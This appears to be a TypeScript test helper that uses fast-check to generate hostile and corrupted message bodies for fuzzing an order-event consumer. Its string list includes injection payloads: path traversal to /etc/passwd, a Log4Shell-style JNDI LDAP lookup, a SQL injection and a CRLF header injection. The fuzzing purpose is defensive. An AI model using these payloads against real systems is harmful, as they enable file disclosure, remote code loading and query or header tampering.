import fc from "fast-check";
import type { OrderEvent } from "../../domain/events.ts";
import { anEvent } from "../support/sqs-records.ts";

/** Invalid and hostile inputs. */

/** Strings that often break programs. */
const NASTY_STRINGS = [
  "",
  " ",
  "\u0000",
  "\ud800",
  "\uffff",
  "\u202e",
  "a\r\nSet-Cookie: a=b",
  "__proto__",
  "constructor",
  "toString",
  "NaN",
  "1e400",
  "null",
  "[object Object]",
  "../../etc/passwd",
  "%00",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an injection that some programs expand.
  "${jndi:ldap://example.com}",
  "' OR 1=1 --",
  "é",
  "e\u0301",
  "x".repeat(50_000),
  "€".repeat(20_000),
];

export const hostileText = fc.oneof(fc.constantFrom(...NASTY_STRINGS), fc.string({ unit: "binary" }));

const deep = fc.integer({ min: 100, max: 3_000 }).map((depth) => JSON.parse("[".repeat(depth) + "]".repeat(depth)));

/** Any JSON value. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileText,
  fc.jsonValue(),
  deep,
  fc.constantFrom(null, true, 0, -0, -1, 1e308, Number.MAX_SAFE_INTEGER, [], {}, { toString: 1 }),
  fc.dictionary(hostileText, fc.jsonValue()),
);

/** An object with some fields removed, some replaced and some added. */
export function corrupted(value: object): fc.Arbitrary<Record<string, unknown>> {
  const keys = Object.keys(value);
  return fc
    .record({
      missing: fc.subarray(keys, { maxLength: 2 }),
      wrong: fc.dictionary(fc.constantFrom(...keys), hostileValue, { maxKeys: 2 }),
      added: fc.dictionary(hostileText, hostileValue, { maxKeys: 1 }),
    })
    .map(({ missing, wrong, added }) => {
      const entries = Object.entries({ ...value, ...wrong, ...added });
      return Object.fromEntries(entries.filter(([key]) => !missing.includes(key)));
    });
}

/** Events with wrong types, shapes or versions. */
export const corruptedEvent = fc.oneof(
  corrupted(anEvent()),
  corrupted(anEvent({ type: "OrderCancelRequested", version: 9 })),
  fc.constantFrom<object>(
    // As an older or a newer version of the system might send them.
    { orderId: anEvent().orderId, status: "PENDING" },
    { ...anEvent(), type: "OrderCreated" },
    { ...anEvent(), schemaVersion: 2, data: { ...anEvent() } },
    { ...anEvent(), orderId: anEvent().orderId.toUpperCase() },
    { ...anEvent(), orderId: `${anEvent().orderId}\n` },
    { ...anEvent(), version: "1" },
  ),
);

/** The body of a message. */
export const hostileMessage: fc.Arbitrary<string> = fc.oneof(
  hostileText,
  hostileValue.map((value) => JSON.stringify(value)),
  corruptedEvent.map((event) => JSON.stringify(event)),
  // Encoded twice.
  corruptedEvent.map((event) => JSON.stringify(JSON.stringify(event))),
  fc.constant(JSON.stringify(anEvent()).slice(0, -1)),
  fc.constantFrom<OrderEvent["type"]>("OrderPlaced", "OrderShipped").map((type) => JSON.stringify(anEvent({ type }))),
);
